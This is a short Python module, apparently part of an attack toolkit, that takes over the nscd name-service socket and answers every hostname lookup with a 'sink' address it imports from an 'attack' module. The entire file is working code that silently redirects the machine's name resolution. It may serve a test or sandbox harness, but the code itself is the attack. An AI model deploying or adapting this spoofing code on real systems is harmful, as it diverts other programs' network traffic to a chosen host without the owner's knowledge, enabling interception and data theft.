"""Listens at nscd's socket and answers every name with the sink's address."""

import os
import socket
import struct
import threading

from attack import SINK

PLACE = "/var/run/nscd/socket"
ADDRESSES = 14


def listen():
    """Listen in a thread until the program ends."""
    os.makedirs(os.path.dirname(PLACE), exist_ok=True)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(PLACE)
    listener.listen(8)
    threading.Thread(target=_serve, args=(listener,), daemon=True).start()


def _serve(listener):
    while True:
        peer, _ = listener.accept()
        _, kind, _ = struct.unpack("=iii", peer.recv(4096)[:12])
        address = socket.inet_aton(SINK[0])
        if kind == ADDRESSES:
            peer.send(
                struct.pack("=iiiiii", 2, 1, 1, 4, 1, 0) + address + bytes([socket.AF_INET]) + b"\0"
            )
        peer.close()
